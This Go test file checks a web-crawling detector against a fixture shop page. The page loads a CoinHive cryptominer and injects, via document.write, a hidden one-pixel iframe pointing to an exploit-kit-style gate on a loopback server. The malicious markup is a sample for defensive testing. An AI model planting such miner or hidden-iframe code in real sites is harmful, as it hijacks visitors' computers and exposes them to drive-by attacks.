package detect

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/honeygate/honeygate/internal/crawl"
)

// issue8Site serves a page with a CoinHive miner line that document.writes a
// hidden iframe to an empty file (/ek/gate.php): the case of issue 8.
func issue8Site(t *testing.T) (*httptest.Server, string) {
	ek := http.NewServeMux()
	ek.HandleFunc("/ek/gate.php", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/octet-stream")
	})
	eks := httptest.NewServer(ek)
	t.Cleanup(eks.Close)
	// The gate is another site: the same loopback server named localhost.
	gate := strings.Replace(eks.URL, "127.0.0.1", "localhost", 1) + "/ek/gate.php"
	mux := http.NewServeMux()
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, `<!doctype html><html><head><title>Shop</title></head><body><h1>Welcome</h1>
<p>Our shop sells things.</p>
<script src="https://coinhive.com/lib/coinhive.min.js"></script>
<script>var miner = new CoinHive.Anonymous('abcdefghijklmnopqrstuvwxyz012345'); miner.start();</script>
<script>document.write('<iframe src="`+gate+`" width="1" height="1" style="visibility:hidden;position:absolute;left:-1000px"></iframe>');</script>
</body></html>`)
	})
	srv := httptest.NewServer(mux)
	t.Cleanup(srv.Close)
	return srv, gate
}

func issue8Visit(t *testing.T, e crawl.Engine, u string) (*crawl.Capture, crawl.Verdict) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	c := e.Visit(ctx, crawl.Request{URL: u, Profile: mustProfile()})
	if c.Error != "" {
		t.Fatalf("visit: %s", c.Error)
	}
	v := newTestJudge(t).Judge(ctx, c, nil)
	t.Logf("verdict %s %.0f", v.Verdict, v.Score)
	for _, r := range v.Reasons {
		t.Logf("reason %s/%s %.0f %s", r.Detector, r.Rule, r.Score, r.Evidence)
	}
	for _, in := range v.Indicators {
		t.Logf("indicator %s %s %s", in.Type, in.Category, in.Value)
	}
	return c, v
}

// checkIssue8 holds what both engines must get right on the issue 8 page.
func checkIssue8(t *testing.T, c *crawl.Capture, v crawl.Verdict, base, gate string) {
	t.Helper()
	if v.Verdict == crawl.Clean {
		t.Fatalf("the miner page was judged clean")
	}
	own := map[string]bool{}
	for _, r := range c.Resources {
		if r.URL == c.URL || r.URL == c.FinalURL || r.Type == crawl.TypeDOM || r.Type == crawl.TypeDocument || r.Type == crawl.TypeInline {
			own[r.SHA256] = true
		}
	}
	for _, in := range v.Indicators {
		if in.Type != "sha256" {
			continue
		}
		if in.Value == EmptySHA256 {
			t.Errorf("the empty file's hash is an indicator: %+v", in)
		}
		if own[in.Value] {
			t.Errorf("the page's own document/DOM hash is an indicator: %+v", in)
		}
	}
	seen := map[string]bool{}
	for _, r := range v.Reasons {
		k := r.Detector + "\x00" + r.Rule + "\x00" + r.Evidence
		if seen[k] {
			t.Errorf("reason listed twice: %s/%s %s", r.Detector, r.Rule, r.Evidence)
		}
		seen[k] = true
	}
	found := false
	for _, in := range v.Indicators {
		if in.Type == "url" && in.Value == gate {
			found = true
		}
	}
	if !found {
		t.Errorf("the document.write'd iframe %s is not an indicator", gate)
	}
	for _, h := range c.Redirects {
		if h.From == h.To {
			t.Errorf("hop from itself to itself: %+v", h)
		}
		if h.Cause == crawl.CauseIframe && (h.From != base+"/" || h.To != gate) {
			t.Errorf("iframe hop %+v, want %s/ -> %s", h, base, gate)
		}
	}
}

func TestIssue8Browser(t *testing.T) {
	srv, gate := issue8Site(t)
	c, v := issue8Visit(t, qualityBrowser(t), srv.URL+"/")
	checkIssue8(t, c, v, srv.URL, gate)
}
func TestIssue8Static(t *testing.T) {
	srv, gate := issue8Site(t)
	e := crawl.NewStatic(crawl.StaticOptions{Guard: &crawl.Guard{LoopbackOnly: true}})
	t.Cleanup(func() { e.Close() })
	c, v := issue8Visit(t, e, srv.URL+"/")
	checkIssue8(t, c, v, srv.URL, gate)
}
